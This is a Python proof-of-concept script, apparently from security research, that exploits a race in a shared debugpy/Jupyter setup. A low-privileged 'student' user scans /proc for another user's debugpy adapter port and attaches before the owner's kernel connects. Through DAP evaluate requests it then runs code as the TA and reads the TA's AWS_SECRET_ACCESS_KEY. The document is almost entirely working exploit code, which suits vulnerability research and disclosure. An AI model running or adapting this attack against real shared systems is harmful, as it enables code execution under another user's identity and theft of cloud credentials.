"""Student (uid 1001): wait for the TA's debugpy adapter to appear in /proc (its argv names the port) and attach
before the TA's own kernel connects; then evaluate code in the TA's kernel."""
import os, re, socket, sys, time, json
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from a01_student_dap import DAP  # noqa: reuses the DAP client (its module body scans once and finds nothing yet)
t0 = time.time(); port = None; known = set(os.listdir("/proc"))
while time.time() - t0 < 60 and port is None:
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in known: continue
        try: cmd = open(f"/proc/{p}/cmdline", "rb").read().split(b"\0")
        except OSError: continue
        if any(b"debugpy/adapter" in a for a in cmd) and b"--port" in cmd:
            port = int(cmd[cmd.index(b"--port") + 1]); break
        if cmd != [b""]: known.add(p)
print("adapter seen after %.2fs, port %s" % (time.time() - t0, port), flush=True)
if port:
    t1 = time.time()
    while True:
        try: d = DAP(port); break
        except OSError: time.sleep(0.001)
    d.send("initialize", {"clientID": "x", "adapterID": "debugpy"})
    d.wait(lambda m: m.get("command") == "initialize")
    d.send("attach", {"justMyCode": False})
    m, seen = d.wait(lambda m: m.get("command") == "attach" or m.get("event") == "initialized", timeout=10)
    print("connected %.3fs after seeing it; attach:" % (time.time() - t1), [(x.get("event") or x.get("command"), x.get("success"), x.get("message", "")) for x in seen], flush=True)
    if m and m.get("event") == "initialized":
        d.send("configurationDone"); d.wait(lambda m: m.get("command") == "attach", timeout=10)
        d.send("threads"); m, _ = d.wait(lambda m: m.get("command") == "threads")
        tid = m["body"]["threads"][0]["id"]
        d.send("pause", {"threadId": tid}); m, _ = d.wait(lambda m: m.get("event") == "stopped", timeout=15)
        d.send("stackTrace", {"threadId": m["body"]["threadId"]}); m, _ = d.wait(lambda m: m.get("command") == "stackTrace")
        fid = m["body"]["stackFrames"][0]["id"]
        d.send("evaluate", {"expression": "__import__('os').getuid(), __import__('os').environ.get('AWS_SECRET_ACCESS_KEY')", "frameId": fid, "context": "repl"})
        m, _ = d.wait(lambda m: m.get("command") == "evaluate")
        print("RACE WON, evaluate as the TA ->", m.get("body", {}).get("result"), flush=True)
        d.send("continue", {"threadId": tid}); d.wait(lambda m: m.get("command") == "continue", timeout=3)
